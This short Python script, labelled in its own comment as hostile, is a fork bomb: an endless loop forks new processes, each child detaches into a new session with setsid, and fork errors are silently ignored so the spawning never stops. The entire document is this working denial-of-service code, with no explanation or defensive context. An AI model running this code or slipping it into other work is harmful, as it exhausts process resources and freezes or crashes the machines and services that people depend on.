# Hostile: a fork bomb in Python, each child in a new session.
import os
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
